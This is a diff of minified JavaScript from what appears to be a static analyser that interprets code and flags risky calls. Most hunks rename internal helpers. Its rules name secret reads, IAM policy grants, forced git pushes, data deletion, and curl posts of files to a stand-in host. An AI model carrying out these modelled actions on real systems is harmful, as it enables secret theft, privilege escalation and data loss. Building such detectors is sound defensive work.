-N.mock(s.args[0])&&is(t.language,n))return s.args[0];let c=/^[A-Z]/.test(i)&&!o&&r.isLibrary(n)?["transport","connection","session"].map(d=>yt(s,d)):[];return(o?
-void 0:r.imitations.get(`class ${n.replace(/\.from$/,"")}`))??c.find(N.mock)}var{codeWords:Ip}=S,xv=48,$v=64;function ml(t,e){let{tokens:s,at:r,end:n,language:o}=t,i=[";","=>",")","}",...e?[]:[","]],a=r;for(let l=0;a<n&&l<xv;l++){let c=s[a];
+t,{...r,to:i},...At.exiting)?!1:!fl(t,r,"yield")&&(r.caller==="any"||Tp(r.caller)):!0}function Pp(t,e,s){if(O.mock(e))return kv(t,e,s);if(e.kind!=="name")return;
+let{collector:r}=t,{path:n,self:o}=e,i=v.lastName(n),a=At.mock_setters.has(i)&&!O.made(G.root(o),"spy");if(r.imitations.size>0&&(a||At.mock_ends.has(i))&&jt(t),
+O.mock(s.args[0])&&is(t.language,n))return s.args[0];let c=/^[A-Z]/.test(i)&&!o&&r.isLibrary(n)?["transport","connection","session"].map(d=>yt(s,d)):[];return(o?
+void 0:r.imitations.get(`class ${n.replace(/\.from$/,"")}`))??c.find(O.mock)}var{codeWords:Ip}=S,xv=48,$v=64;function ml(t,e){let{tokens:s,at:r,end:n,language:o}=t,i=[";","=>",")","}",...e?[]:[","]],a=r;for(let l=0;a<n&&l<xv;l++){let c=s[a];
 if(P(c,...Ip.assigning))return a;let d=o.blocks==="end"&&L(c,"do");if(c.kind==="newline"||d||P(c,...i))return;a=te(s,a)+1}}function Tt(t,e,s,r){let{tokens:n,scope:o}=t,
 i=e;for(;i<s&&L(n[i],...Ip.declaring);)i+=1;let a=n[i];if(a?.kind==="mark"&&a.close!==void 0)(a.text==="{"?Sv:Rp)(t,i+1,Math.min(a.close,s),r);else if(ae(n,i,s,
 [","],!1)<s)Rp(t,i,s,r);else{if(_v(t,i,s,r))return;let l="";for(let u=i;u<s;u++){let p=n[u];if(p.kind==="name")l+=l!==""&&!l.endsWith(".")?"":p.text;else if(P(p,
-".","->","::","?."))l+=".";else break}if(l==="")return;let c=N.mock(r)||N.made(r,"git")?o.get(l):void 0,d=l.startsWith("@")&&r.kind==="text"&&!r.glob;o.set(l,c?
+".","->","::","?."))l+=".";else break}if(l==="")return;let c=O.mock(r)||O.made(r,"git")?o.get(l):void 0,d=l.startsWith("@")&&r.kind==="text"&&!r.glob;o.set(l,c?
 w.choice([c,r]):d?w.list([r]):r)}}function _v(t,e,s,r){let{tokens:n,language:o}=t,[i,a]=n.slice(e,e+2);if(i?.kind!=="name")return!1;let l=t.lookUp(i.text);if(P(
-a,"[")&&e+1<s){let m=te(n,e+1),h=t.nest(e+2,m).evaluate();if(l.kind==="map"&&N.known(h)){let g=l.entries.get(v.firstText(h));l.entries.set(v.firstText(h),g?w.merged(
+a,"[")&&e+1<s){let m=te(n,e+1),h=t.nest(e+2,m).evaluate();if(l.kind==="map"&&O.known(h)){let g=l.entries.get(v.firstText(h));l.entries.set(v.firstText(h),g?w.merged(
 [g,r]):r)}else l.kind==="name"&&m===s-1&&fn(t,r,l,h);return!0}let c=n[s-1],d=P(a,"(")?i.text==="require":l.kind==="name"&&!l.self;if(c?.kind!=="name"||!P(n[s-2],
-...o.member_operators)||!N.mock(l)&&!d)return!1;let u=t.nest(e,s-2).evaluate(),p=u.kind==="name"&&!u.self?o.canonicalize(`${u.path}.${c.text}`):"",f=r.kind==="f\
-unction"&&o.sdks.some(m=>p.startsWith(m));return!N.mock(u)&&!f&&!o.functions.has(p)?!1:(fn(t,r,u,w.text(c.text)),!0)}function Rp(t,e,s,r){let n=r.kind==="list"?
-r.items:[],o=e,i=0;for(let a=e;a<=s;a++)if(a===s||P(t.tokens[a],",")){let l=r.kind==="content"?r:n[i]??z.client(r)??I;a>o&&Tt(t,o,a,l),o=a+1,i+=1}else a=te(t.tokens,
+...o.member_operators)||!O.mock(l)&&!d)return!1;let u=t.nest(e,s-2).evaluate(),p=u.kind==="name"&&!u.self?o.canonicalize(`${u.path}.${c.text}`):"",f=r.kind==="f\
+unction"&&o.sdks.some(m=>p.startsWith(m));return!O.mock(u)&&!f&&!o.functions.has(p)?!1:(fn(t,r,u,w.text(c.text)),!0)}function Rp(t,e,s,r){let n=r.kind==="list"?
+r.items:[],o=e,i=0;for(let a=e;a<=s;a++)if(a===s||P(t.tokens[a],",")){let l=r.kind==="content"?r:n[i]??G.client(r)??I;a>o&&Tt(t,o,a,l),o=a+1,i+=1}else a=te(t.tokens,
 a,s-1)}function Sv(t,e,s,r){for(let n=e;n<s;n++){let o=t.tokens[n];if(o.kind!=="name")continue;let i=P(t.tokens[n+1],":","=>")?t.tokens[n+2]:void 0;t.scope.set(
-i?.kind==="name"?i.text:o.text,t.getMember(r,o.text)),n=ae(t.tokens,n,s,[","],!1)}}var er=t=>w.merged(v.elements(t).slice(0,$v));var{codeWords:vs}=S,qp="https://sdk.example";function Np(t,e,s){let{collector:r,language:n,tokens:o,at:i}=t,a=n.canonicalize(e.path),l=v.lastName(a),c=z.client(
-e.self),d=N.made(c,"sdk")?c:void 0;if(e.self?.kind==="name"&&/^(?:call|apply|bind)$/.test(l))return;let u=s.args.some($=>v.firstText($)===":memory:");if(u||!d&&
-(e.self||!n.sdks.some($=>a.startsWith($)))){let $=N.mock(s.args[0])||L(o[i+1],"toString","toSQL")||r.isMocked||r.isInMemory;!u&&!$&&Av(e,a,is(n,l)!==void 0)&&r.
+i?.kind==="name"?i.text:o.text,t.getMember(r,o.text)),n=ae(t.tokens,n,s,[","],!1)}}var er=t=>w.merged(v.elements(t).slice(0,$v));var{codeWords:vs}=S,qp="https://sdk.example";function Np(t,e,s){let{collector:r,language:n,tokens:o,at:i}=t,a=n.canonicalize(e.path),l=v.lastName(a),c=G.client(
+e.self),d=O.made(c,"sdk")?c:void 0;if(e.self?.kind==="name"&&/^(?:call|apply|bind)$/.test(l))return;let u=s.args.some($=>v.firstText($)===":memory:");if(u||!d&&
+(e.self||!n.sdks.some($=>a.startsWith($)))){let $=O.mock(s.args[0])||L(o[i+1],"toString","toSQL")||r.isMocked||r.isInMemory;!u&&!$&&Av(e,a,is(n,l)!==void 0)&&r.
 addInvocation("cloud-sdk",[l]);return}let p=[...vs.endpoints].map($=>yt(s,$)).find($=>$),f=p?[w.text("--endpoint-url"),p]:d?.args??[],m=/instance|volume|snapshot|image|vpc|subnet|security_?group|key_?pair/i.
 test(l)?Io(s,"DryRun"):/namespace|_node\b/i.test(l)&&["dry_run","dryRun"].some($=>Io(s,$));if(!d&&l.endsWith("Command"))return w.derived("sdk-command",w.text(m?
-"":l));let h=s.args.flatMap($=>N.made($,"sdk-command")?v.texts($.args[0]):[]),g=m||r.imitates("services")||r.isEmulated,y=v.lastName(v.word(e.self??w.name(e.path.
+"":l));let h=s.args.flatMap($=>O.made($,"sdk-command")?v.texts($.args[0]):[]),g=m||r.imitates("services")||r.isEmulated,y=v.lastName(v.word(e.self??w.name(e.path.
 replace(/\.\w+$/,"")))),x=[...s.args,...s.named.values()];!g&&(d||l==="request")&&Dp(v.parts(x))&&r.addInvocation("cloud-sdk",["DELETE",...f]);for(let $ of g?[]:
 [v.lastName(e.path),...h])(jp($)||$==="cancel"&&/^subscriptions?$/i.test(y))&&r.addInvocation("cloud-sdk",[$,...f]);if(d&&!g&&[l,...h].some($=>X($,"granting-met\
 hods"))&&r.addInvocation("aws",["iam","attach-user-policy",...f]),d&&[l,...h].some($=>X($.replace(/Command$/,""),"secret-methods")))return w.content([r.createInvocation(
 "aws",["secretsmanager","get-secret-value"])]);/^update_?ref$/i.test(l)&&Io(s,"force")&&r.addInvocation("git",["push","--force"]);let _=d&&X(l,"sending-methods")?
-z.content(x):void 0;_&&_.from.length>0&&r.addInvocation("curl",["-X","POST","-d","@-",qp],r.createInput(_));let E=_?.files??(d&&/^upload/i.test(l)?v.texts(s.args[0]):
-[]);for(let $ of E)r.addInvocation("curl",["-X","POST","-d",`@${$}`,qp]);return w.derived("sdk",...f)}function Lp(t,e,s){let{collector:r}=t,n=z.client(e.self),o=v.
+G.content(x):void 0;_&&_.from.length>0&&r.addInvocation("curl",["-X","POST","-d","@-",qp],r.createInput(_));let E=_?.files??(d&&/^upload/i.test(l)?v.texts(s.args[0]):
+[]);for(let $ of E)r.addInvocation("curl",["-X","POST","-d",`@${$}`,qp]);return w.derived("sdk",...f)}function Lp(t,e,s){let{collector:r}=t,n=G.client(e.self),o=v.
 parts([...s.args,{kind:"map",entries:s.named}]);if(!n){let l=e.self?void 0:Cv(t,e.path,o);return l===void 0?void 0:w.derived(l)}let i=v.lastName(e.path),a=i==="\
 destroy"&&o.length===0;return n.by==="service"&&!a&&(jp(i)||Dp(o))&&r.addInvocation("cloud-sdk",[i]),n.by==="data"&&X(i,"emptying-methods")&&!r.isMocked&&r.addInvocation(
 "sql",["flush",i]),n}var Dp=t=>t.some(({value:e})=>e.kind==="text"&&e.of.some(s=>X(s,"deleting-requests")));function Cv({collector:t,language:e},s,r){if(X(s,"ow\
-n-data-modules")&&!t.isMocked)return"data";if(!(e.blocks==="end"?/^[A-Z]/.test(s):t.isLibrary(s)))return;let o=r.map(({value:d})=>z.client(d)).find(d=>d);if(o)return o.
+n-data-modules")&&!t.isMocked)return"data";if(!(e.blocks==="end"?/^[A-Z]/.test(s):t.isLibrary(s)))return;let o=r.map(({value:d})=>G.client(d)).find(d=>d);if(o)return o.
 by==="data"?"data":"service";let i=!s.includes(".")||X(v.lastName(s),"client-makers"),a=r.filter(({key:d})=>d===""||X(d,"place-options")),l=a.flatMap(({value:d})=>d.
 kind==="text"?d.of:[]);if(!i)return;if([...vs.data_signs].some(d=>t.signs.has(d))){let u=r.some(({key:m,value:h})=>m==="type"&&v.firstText(h)==="sqljs")||l.some(
 m=>X(m,"passing-data")),p=a.filter(({value:m})=>m.kind!=="text"||m.of.some(Ev)),f=p.every(({value:m})=>v.texts(m).every(h=>X(h,"passing-data")));return(u||p.length>
@@ -2995,22 +2995,22 @@ canonicalize(e.path))??[];if(n&&t.language.blocks==="indent")return t.collector.
 !e.self)return t.call(w.name(o,s.args[0]),...s.args.slice(1));let i=Np(t,e,s);if(i)return hl(t,e,s,i);let a=Wp(t,e.path);if(X(a,"file-calls")&&t.collector.imitates(
 "files"))return I;let l=t.language.functions.has(a),c=t.collector.source==="other"?hn.static_method:hn.own_method,[,d=""]=!l&&c.exec(e.path)||[],u=t.scope.get(e.
 self?e.path:d);if(u?.kind==="function"&&!t.activeFunctions.has(u.definition))return Pt(t,u,s);let p={...s,collector:t.collector,evaluateCode:T=>Lv(t,T),getMember:(T,q)=>t.
-getMember(T,q),invoke:(T,q)=>Rr(t,T,q),imitate:(T,q,A)=>fn(t,T,q,A),isFollowed:T=>Do(t,T)},{language:f}=t,m=t.collector.signs.has("links-repositories"),h=N.made(
+getMember(T,q),invoke:(T,q)=>Rr(t,T,q),imitate:(T,q,A)=>fn(t,T,q,A),isFollowed:T=>Do(t,T)},{language:f}=t,m=t.collector.signs.has("links-repositories"),h=O.made(
 e.self,"git")&&!m?e.self.args[0]:void 0;t.collector.enter(v.firstText(yt(s,"cwd")??yt(s,"chdir")??h));let g=v.lastName(a),y=(T,q=e.self)=>T?.({...p,receiver:q});
 if(e.self)return y(f.methods.get(e.path)??f.methods.get(a))??y(f.sharedMethods.get(a))??y(is(f,a))??hl(t,e,s);let x=/^[A-Z]/.test(g)?void 0:is(f,a),_=a.includes(
 ".")?w.name(a.slice(0,-g.length-1)):void 0;return y(f.functions.get(a))??(_&&(y(f.methods.get(g),_)??y(x,_)))??y(f.sharedFunctions.get(g))??hl(t,e,s)}function hl(t,e,s,r){
-let n=s.args.map(z.client).find(a=>a),o=r??Lp(t,e,s)??n,i=gl(t,e,s);return o&&i.kind!=="list"?o:i}function Rv(t,e,s){if(e.by==="data")return Pt(t,w.name("query",
-e),s);if(z.client(e))return e;let[r=I,n]=e.args,o=e.by==="spy"?v.firstText(r):"";if(o!=="")return Pt(t,t.collector.imitations.get(o)??w.name(o),s);let[i=I,...a]=s.
+let n=s.args.map(G.client).find(a=>a),o=r??Lp(t,e,s)??n,i=gl(t,e,s);return o&&i.kind!=="list"?o:i}function Rv(t,e,s){if(e.by==="data")return Pt(t,w.name("query",
+e),s);if(G.client(e))return e;let[r=I,n]=e.args,o=e.by==="spy"?v.firstText(r):"";if(o!=="")return Pt(t,t.collector.imitations.get(o)??w.name(o),s);let[i=I,...a]=s.
 args;if(e.by==="bound")return Pt(t,r,{...s,args:[...v.items(n),...s.args]});let l=e.by==="message"&&t.getMember(i,v.firstText(r));if(l)return Pt(t,l,{...s,args:[
 ...v.items(n),...a]});let c=e.by==="instance"?t.scope.get("__call__")??t.scope.get("__invoke"):void 0;return c?Pt(t,c,s):e.by==="rows"?e:gl(t,e,s)}var Iv=/^(?:str|bytes)\.([lr]?strip|lower|upper|r?split|splitlines|encode|decode)$/;
 function Wp({language:t,scope:e},s){let r=t.canonicalize(s);if(s.includes(".")||t.functions.has(r))return r;let n=v.texts(e.get("*")).find(o=>t.functions.has(`${o}\
 .${s}`));return n===void 0?r:`${n}.${s}`}function gl(t,e,{args:s,named:r}){let[n,o]=e.kind==="name"?[e.self,v.lastName(e.path)]:[void 0,""],i=[...s,...r.values()],
 a=i.filter(c=>Ov(t,c));if(o.endsWith("?"))return I;let l=a.flatMap(c=>{if(n&&Mo.folding_methods.has(o))return[Rr(t,c,[s[1]??I,er(n)])];let d=n&&Mo.element_methods.
-has(o)&&s[0]===c?n:void 0,u=d?v.elements(d):[],m=(o==="map"&&u.length>0&&u.every(N.known)||!d||N.uneven(u)?u:[er(d)]).map(_=>Rr(t,c,[_])),h=i.slice(i.indexOf(c)+
-1),g=h.map(_=>_.kind==="list"?er(_):_);if(c.kind==="name"?h.length>0:N.made(c,"bound")&&!d||h.some(qv))return[...m,Rr(t,c,g)];let y=z.client(n)??n,x=y?.kind==="\
+has(o)&&s[0]===c?n:void 0,u=d?v.elements(d):[],m=(o==="map"&&u.length>0&&u.every(O.known)||!d||O.uneven(u)?u:[er(d)]).map(_=>Rr(t,c,[_])),h=i.slice(i.indexOf(c)+
+1),g=h.map(_=>_.kind==="list"?er(_):_);if(c.kind==="name"?h.length>0:O.made(c,"bound")&&!d||h.some(qv))return[...m,Rr(t,c,g)];let y=G.client(n)??n,x=y?.kind==="\
 content"||y?.kind==="made"?[y,y]:[];return d||c.kind==="name"?m:[Rr(t,c,x)]});return n&&a.length===1&&o==="map"&&l.length>0?w.list(l):n&&a.length===1&&Mo.selecting_methods.
-has(o)?n:!n&&Mo.selecting_functions.has(o)?s.at(-1)??I:z.content([...n?[z.secretContent(n)??n]:[],...i])??I}var qv=t=>t.kind==="list"||v.texts(t).some(e=>e.includes(
-"/")),Ov=(t,e)=>e.kind==="function"||N.made(e,"bound","message")||e.kind==="name"&&t.language.functions.has(Wp(t,e.path));function Nv(t,{definition:e},s){if(e.called=
+has(o)?n:!n&&Mo.selecting_functions.has(o)?s.at(-1)??I:G.content([...n?[G.secretContent(n)??n]:[],...i])??I}var qv=t=>t.kind==="list"||v.texts(t).some(e=>e.includes(
+"/")),Ov=(t,e)=>e.kind==="function"||O.made(e,"bound","message")||e.kind==="name"&&t.language.functions.has(Wp(t,e.path));function Nv(t,{definition:e},s){if(e.called=
 !0,t.depth>Tv||t.activeFunctions.has(e))return I;let{collector:r}=t,{imitations:n}=r,o=(e.mocks??[]).map(u=>jo(t,u)),a=[.../^(?:self|cls)$/.test(e.parameters[0]?.
 name??"")?[I]:[],...s.args,...o],l=new Er(e.scope);for(let u of["@_","@ARGV"])t.language.bare_calls&&l.declare(u,w.list(a));let c=t.nestIn(e.tokens,e.from,e.to).
 with({scope:l,returnValues:[],body:{...e,caller:t.body?t:"any"},activeFunctions:new Set([...t.activeFunctions,e])});for(let[u,{name:p,pattern:f,rest:m,usual:h,field:g}]of e.
@@ -3018,8 +3018,8 @@ parameters.entries()){if(p==="self")continue;let x=p==="monkeypatch"&&/^test/.te
 evaluate(),E=s.named.get(p)??a[u]??_();f!==void 0?Tt(c,f,te(c.tokens,f)+1,E):m==="**"?l.declare(p,{kind:"map",entries:s.named}):m===void 0?l.declare(p,E):l.declare(
 p,w.list(a.length>u?a.slice(u):[I])),g&&l.set(p.startsWith("$")?`$this.${p.slice(1)}`:`this.${p}`,E)}let d=c.interpret();return o.length>0&&jt(t,n),e.expression?
 d:hn.class_name.test(e.name??"")&&c.returnValues.length===0?w.derived("instance"):w.merged(t.language.bare_calls?[...c.returnValues,d]:c.returnValues)}function Lv(t,e){
-let s=e&&z.content([e]),{collector:r}=t;if(s){let{program:i}=t.language;return s.from.length===0&&s.files.length>0?r.addInvocation(i,s.files):r.addInvocation(i,
-[],r.createInput(s)),I}let n=v.texts(e).filter(i=>N.known({kind:"text",of:[i]}));v.texts(e).some(je)&&r.fail("too-much","the code runs code that cannot be read \
+let s=e&&G.content([e]),{collector:r}=t;if(s){let{program:i}=t.language;return s.from.length===0&&s.files.length>0?r.addInvocation(i,s.files):r.addInvocation(i,
+[],r.createInput(s)),I}let n=v.texts(e).filter(i=>O.known({kind:"text",of:[i]}));v.texts(e).some(je)&&r.fail("too-much","the code runs code that cannot be read \
 to its end"),n.length===0&&r.addInvocation("eval",[e]),t.depth>Pv&&r.fail("too-deep","code in code is nested too deeply"),r.step(Math.ceil(n.join("").length/4));
 let o=i=>t.nestIn(Pr(i,t.language.lexer)).interpret();return n.map(o).at(-1)??I}var Dv=400;function Mp(t){let e=ae(t.tokens,t.at,t.end,[":"],!1),s=tr(t.tokens,t.at,e);return Fp(t,s,e+1)}function Fp(t,e,s){return t.at=ae(t.tokens,s,t.end,[",",
 ")","]","}",";"]),t.collector.step(t.at-s),xs(t,{parameters:e,from:s,to:t.at,expression:!0})}function Ir(t,e,s,r){let n=te(t.tokens,s,t.end);return t.at=Math.min(
@@ -3056,7 +3056,7 @@ if(o<=e)break;{let i=t.language.concatenation_operators.includes(n);if(!i&&(n===
 step(s.of.reduce((l,c)=>l+(c.length>>5),0))}}if(!t.collector.step())break}return t.depth-=1,s}function _l(t){let e=t.token;if(!e||e.kind==="newline")return I;switch(t.
 at+=1,e.kind){case"number":return w.number(e.number);case"words":return w.list(e.words.map(s=>w.text(s)));case"shell":return t.collector.runShellLine(Bo(t,e));case"\
 text":{let s=Bo(t,e);for(let r=t.token;r?.kind==="text";r=t.token)t.at+=1,s=w.joined([s,Bo(t,r)]);return s}case"mark":return Fv(t,e);case"name":return Vv(t,e.text)}}
-var Bp=t=>z.content([t])??(t.kind==="name"&&!t.self?I:t);function Mv({language:t},e,s){return e==="!"?Bp(s):e==="-"&&s.kind==="number"?w.number(-s.number):e==="\
+var Bp=t=>G.content([t])??(t.kind==="name"&&!t.self?I:t);function Mv({language:t},e,s){return e==="!"?Bp(s):e==="-"&&s.kind==="number"?w.number(-s.number):e==="\
 ~"?s.kind==="number"?w.number(~s.number):I:e==="&"&&s.kind==="text"&&t.blocks==="end"?w.derived("message",s):s}function Bo(t,{pieces:e}){let s=r=>typeof r=="str\
 ing"?w.text(r):ut(t.nestIn(r));return w.joined(e.slice(0,64).map(s))}function Fv(t,e){let s=t.at,r=Math.min(e.close??t.end,t.end);switch(e.text){case"(":{if(P(t.
 tokens[r+1],"=>"))return Fo(t,tr(t.tokens,s,r),r+2);if(t.language.bare_calls&&P(t.tokens[s+1],"=>"))return vl(t,r,e.loop);let n=Ho(t,r,e.loop);return n.length===
@@ -3069,7 +3069,7 @@ a=v.flat(qr(t).args),l=a.map(c=>t.call(i,c));return w.list(e==="map"?v.flat(l):a
 e==="function"||e==="fn"?Vo(t):void 0)??t.lookUp(e)}function Uv(t){let{tokens:e}=t,s=()=>{if(!P(t.token,"{"))return ut(t);let n=te(e,t.at,t.end),o=t.nest(t.at+1,
 n).interpret();return t.at=n+1,o};P(t.token,"(")?_l(t):t.at=ae(e,t.at,t.end,["{"]);let r=s();return t.take("else")?w.merged([r,s()]):r}function Hv(t,e){let s=t.
 language.bare_calls&&t.language.blocks==="braces",r=t.language.member_operators.includes("?."),n=e;for(;t.collector.step();){let o=t.language.bare_calls?zv(t,n):
-void 0;if(o){n=o;continue}let i=t.token;if(i?.kind==="text"&&r&&(n.kind==="name"||z.client(n))){t.at+=1,n=t.call(n,Bo(t,i));continue}if(i?.kind!=="mark")break;let a=t.
+void 0;if(o){n=o;continue}let i=t.token;if(i?.kind==="text"&&r&&(n.kind==="name"||G.client(n))){t.at+=1,n=t.call(n,Bo(t,i));continue}if(i?.kind!=="mark")break;let a=t.
 tokens[t.at+1],l=Math.min(i.close??t.end,t.end),c=t.language.member_operators.includes(i.text),d=n.kind==="name"&&/^[$%]/.test(n.path),u=n.kind==="map"||d||P(t.
 tokens[t.at-1],"->");if(c&&a?.kind==="name")t.at+=2,n=t.getMember(n,a.text),i.text==="->"&&t.language.bare_calls&&!P(t.token,"(")&&(n=t.call(n));else if(i.text===
 "(")t.at+=1,n=$l(t,n,xl(t,l,i.loop));else if(i.text==="["||i.text==="{"&&s&&u)t.at+=1,n=Gv(t,n,l,i.text==="{");else if(/^(?:->|\?\.)$/.test(i.text)||i.text==="!"&&
@@ -3084,18 +3084,18 @@ at,o=e.kind==="name"?`${e.path}.[]`:"";if(t.language.functions.has(o))return t.c
 collector.problem===void 0&&(a.push(P(i.token,":")?void 0:ut(i)),!!i.take(":",".."));)i.at>=i.end&&a.push(void 0);if(t.at=Math.min(s+1,t.end),a.length>1)return So(
 e,a);let[l]=a;if(e.kind==="list")return l?.kind==="number"?e.items.at(l.number)??I:w.merged(e.items);let c=r&&i.end-n===1?i.tokens[n]:void 0,d=c?.kind==="name"&&
 /^\w/.test(c.text)?c.text:v.firstText(l),u=!d.includes("\uFFFC"),p=c?[d]:v.texts(l);return e.kind==="map"?u?w.merged(p.map(f=>t.getMember(e,f))):Kv(e):u&&(e.kind===
-"name"||e.kind==="choice"||z.client(e))?w.choice(p.map(f=>t.getMember(e,f))):e.kind==="name"&&e.path==="db"?w.name("db.collection"):e.kind==="content"||e.kind===
-"made"?e:z.client(e)??I}function Kv({entries:t}){let e=[...t.values()];return e.some(({kind:s})=>s==="content")?I:w.merged(e)}var{codeWords:sr,forms:Sl}=S;function zp(t){let{tokens:e,language:s}=t,r=s.blocks==="indent";if(s.blocks==="end"||s.bare_calls)return;let n=te(e,t.at,t.end),o=r?
+"name"||e.kind==="choice"||G.client(e))?w.choice(p.map(f=>t.getMember(e,f))):e.kind==="name"&&e.path==="db"?w.name("db.collection"):e.kind==="content"||e.kind===
+"made"?e:G.client(e)??I}function Kv({entries:t}){let e=[...t.values()];return e.some(({kind:s})=>s==="content")?I:w.merged(e)}var{codeWords:sr,forms:Sl}=S;function zp(t){let{tokens:e,language:s}=t,r=s.blocks==="indent";if(s.blocks==="end"||s.bare_calls)return;let n=te(e,t.at,t.end),o=r?
 ae(e,t.at,t.end,[":"]):n+1;if(Xv(t,r?o:n))return;let i=P(e[t.at],"(")&&n===o-1,a=e.slice(i?t.at+1:t.at,i?n:o),l=L(a[0],"not")||P(a[0],"!"),[c,d,u,...p]=l?a.slice(
 1):a;if(c?.kind!=="name"||p.length>0||!P(e[o],r?":":"{")||d&&!(P(d,".")&&u))return;let f=u?ex(t,c.text,u):tx(t,c.text);if(f===void 0)return;let m=rr(t,t.at-1,o);
 f!==l&&t.nest(o,m).interpret(),t.at=f!==l?sx(t,m):m}var Yv=40,Qv=3;function Xv(t,e){let{tokens:s,scope:r}=t,n=s.slice(t.at,e),o=!n.some(x=>L(x,"or","not")||P(x,
 ...sr.alternating)),i=x=>P(x,"==","===")||L(x,"in",...sr.ending),a=n.findIndex(i),l=L(n[a],...sr.ending)?a-1:a;if(!o||l<1||n.length>Yv)return!1;let c=L(n[l-1],"\
-name")&&P(n[l-2],"."),d=n[c?l-3:l-1],u=d?.kind==="name"?r.get(d.text):void 0;if(d?.kind!=="name"||u===void 0||!N.made(u,"dirent")&&!N.glob(u))return!1;let p=Zv(
+name")&&P(n[l-2],"."),d=n[c?l-3:l-1],u=d?.kind==="name"?r.get(d.text):void 0;if(d?.kind!=="name"||u===void 0||!O.made(u,"dirent")&&!O.glob(u))return!1;let p=Zv(
 t,t.at+l,e),f=rr(t,t.at-1,e+1),m=s.slice(e,f),h=m.some((x,_)=>L(x,d.text)&&P(m[_+1],...sr.setting)),g=m.some(x=>L(x,...sr.later)||P(x,"=>")),y=p&&!h&&!g&&Jv(u,p);
 return y?(r.set(d.text,y),t.nest(e+1,f).interpret(),r.set(d.text,u),t.at=f,!0):!1}function Jv(t,e){if(t.kind==="made")return w.derived("dirent",t.args[0]??e,e);
 let s=v.texts(t).map(r=>r.endsWith("**")?`${r}/`:Sl.entry_path.exec(r)?.[1]);if(!s.some(r=>r===void 0))return w.glob(w.text(...s.flatMap(r=>v.texts(e).map(n=>`${r}${n}`))))}
 function Zv(t,e,s){let{tokens:r}=t,n=r[e+1],o=r.filter(p=>n.kind==="name"&&L(p,n.text)).length,i=L(r[e+1],...sr.ending),a=t.nest(i?e+2:e+1,s).evaluate(Qv+1),l=L(
-r[e],"in"),c=a.kind==="list"||a.kind==="map"?v.elements(a):[],d=l||i&&c.length>0?c:[a];if(!(!(d.length>0&&d.every(p=>p.kind==="text"&&!p.glob&&N.known(p)))||o>2&&
+r[e],"in"),c=a.kind==="list"||a.kind==="map"?v.elements(a):[],d=l||i&&c.length>0?c:[a];if(!(!(d.length>0&&d.every(p=>p.kind==="text"&&!p.glob&&O.known(p)))||o>2&&
 !i))return i?w.text(...d.flatMap(v.texts).map(p=>`*${p}`)):w.merged(d)}function ex(t,e,s){let{tokens:r,scope:n,collector:o}=t,i=n.get(e);if(s.kind!=="name"||i?.
 kind!=="map"||i.entries!==o.options)return;let l=r.some((c,d)=>L(c,s.text)&&P(r[d+1],"="))||!o.signs.has("plain-switches")?void 0:i.entries.get(s.text);return l?.
 kind==="name"&&Sl.true_or_false.test(l.path)?l.path==="True":void 0}function tx({tokens:t,scope:e,collector:s,language:r},n){let o=e.get(n);if(o?.kind!=="name"||
@@ -3112,7 +3112,7 @@ Go.skipped.has(e.text))t.at+=1,r?.(t);else return Gp(t)??yn(t)}function Gp(t){le
 e[a],"for","foreach"),o=r;for(;o<t.end&&!P(e[o],";","{","}")&&!n(o);)o=te(e,o)+1;if(o===r||o>=t.end||!n(o))return;t.at=o+1;let i=t.evaluate();return t.scope.set(
 "$_",er(i.kind==="list"?i:w.list([i]))),t.nest(r,o).interpret(),I}var Kp={return:t=>{t.tokens[t.at]?.kind!=="newline"&&t.returnValues.push(yn(t))},yield:t=>{let e=t.
 take("from","*"),s=yn(t);t.returnValues.push(e?s:w.list([s]))},echo:t=>t.collector.recordPrint(qr(t).args,"",""),if:zp,for:Yp,foreach:Yp,with:ox,del:t=>{let[e,s,
-r]=t.tokens.slice(t.at,t.at+3),n=e?.kind==="name"?t.lookUp(e.text):I;N.made(n,"store")&&P(s,"[")&&L(r)&&t.call(w.name("clear",n))},class:zo,module:zo,interface:zo,
+r]=t.tokens.slice(t.at,t.at+3),n=e?.kind==="name"?t.lookUp(e.text):I;O.made(n,"store")&&P(s,"[")&&L(r)&&t.call(w.name("clear",n))},class:zo,module:zo,interface:zo,
 namespace:zo};function yn(t){let e=[],s=t.language.blocks!=="braces";for(let o=ml(t,s);o!==void 0;o=ml(t,!1))e.push([t.at,o,t.tokens[o].text]),t.at=o+1;let r=s?
 qr(t).args:[t.evaluate()],n=r.length===1?r[0]:w.list(r);for(let[o,i,a]of e.reverse()){if(a==="+="||a===".="){let l=t.tokens[o],c=l?.kind==="name"?t.lookUp(l.text):
 I;n=_o("+",c,n,!0)}Tt(t,o,ae(t.tokens,o,i,[":"],!1),n)}return n}function ox(t){let{tokens:e,collector:s}=t,r=ae(e,t.at,t.end,[":"]);if(t.language.blocks!=="inde\
@@ -3122,7 +3122,7 @@ t.at=l,jt(t,a)}function ix(t){let{tokens:e}=t,s=[];for(;t.take("@")&&t.collector
 1;t.take("async"),L(e[t.at],"def")&&Xp(t,s)}function Xp(t,e=[]){let{tokens:s}=t;if(!L(s[t.at+1]))return!1;let r=t.at+2;P(s[r],".")&&L(s[r+1])&&(r+=2);let n=s[r-
 1].text,[o,i]=Uo(s,r,t.end),a=P(s[i],"="),l=a?ae(s,i,t.end,[";"]):rr(t,t.at,i),c=a?i+1:i,d=L(s[t.at-1],"async"),p=e.length>0&&s.slice(c,l).some(m=>L(m,"yield"))?
 []:e,f=xs(t,{parameters:o,from:c,to:l,expression:a,name:n,later:d,mocks:p});t.scope.declare(n,f),t.at=l;for(let m of e)m.kind==="function"&&t.call(m,f);return!0}
-function Yp(t){t.take("await");let e=P(t.tokens[t.at],"("),s=lx(t,e);if(!s)return;let[r,n,o]=s;t.at=r;let i=t.evaluate();if(n<o&&i.kind==="list"&&N.uneven(i.items)){
+function Yp(t){t.take("await");let e=P(t.tokens[t.at],"("),s=lx(t,e);if(!s)return;let[r,n,o]=s;t.at=r;let i=t.evaluate();if(n<o&&i.kind==="list"&&O.uneven(i.items)){
 ax(t,i.items,n,o);return}let a=er(t.language.bare_calls&&i.kind==="text"?w.list([i]):i);n<o?Tt(t,n,o,a):t.scope.set("$_",a)}function ax(t,e,s,r){let n=t.language.
 blocks==="indent"?t.at:t.at+1,o=rr(t,s,n);for(let i of e)Tt(t,s,r,i),i!==e.at(-1)&&t.nest(n,o).interpret()}function lx(t,e){let{tokens:s,at:r,end:n,language:o}=t,
 i=e?r+1:r,a=e?te(s,r,n):n;for(let l=i;l<Math.min(a,i+rx);l++){if(L(s[l],"in","of"))return[l+1,i,l];if(e&&L(s[l],"as"))return[i,P(s[l+2],"=>")?l+3:l+1,a];if(!e&&
